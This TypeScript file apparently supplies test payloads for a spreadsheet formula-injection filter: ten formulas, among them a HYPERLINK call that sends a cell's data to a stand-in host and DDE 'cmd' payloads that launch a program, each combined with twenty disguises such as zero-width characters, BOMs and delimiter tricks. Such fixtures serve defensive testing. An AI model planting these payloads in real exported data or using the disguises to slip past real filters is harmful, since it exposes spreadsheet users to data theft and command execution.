// What spreadsheets have been made to run, and what hides it from a filter: 10 formulas, each with 20 disguises.
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '+HYPERLINK("https://evil.example")',
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '@SUM(1,1)',
  '＝1+1',
  '＠SUM(1,1)',
];

const DISGUISES: readonly ((formula: string) => string)[] = [
  (formula) => formula,
  (formula) => ` ${formula}`,
  (formula) => `\t${formula}`,
  (formula) => `\r${formula}`,
  (formula) => `\n${formula}`,
  (formula) => `\r\n${formula}`,
  (formula) => `   \t ${formula}`,
  (formula) => `\u00a0${formula}`,
  (formula) => `\u200b${formula}`,
  (formula) => `\ufeff${formula}`,
  (formula) => `"${formula}`,
  (formula) => `""${formula}""`,
  (formula) => `'${formula}`,
  (formula) => `${formula}\nand a second line`,
  (formula) => `Offers;${formula}`,
  (formula) => `Offers\t${formula}`,
  (formula) => `Offers\n${formula}`,
  (formula) => `Offers";${formula};"`,
  (formula) => `Offers","${formula}`,
  (formula) => `Offers\u2028;; "${formula}`,
];

export const FORMULA_PAYLOADS: readonly string[] = FORMULAS.flatMap((formula) =>
  DISGUISES.map((disguise) => disguise(formula)),
);
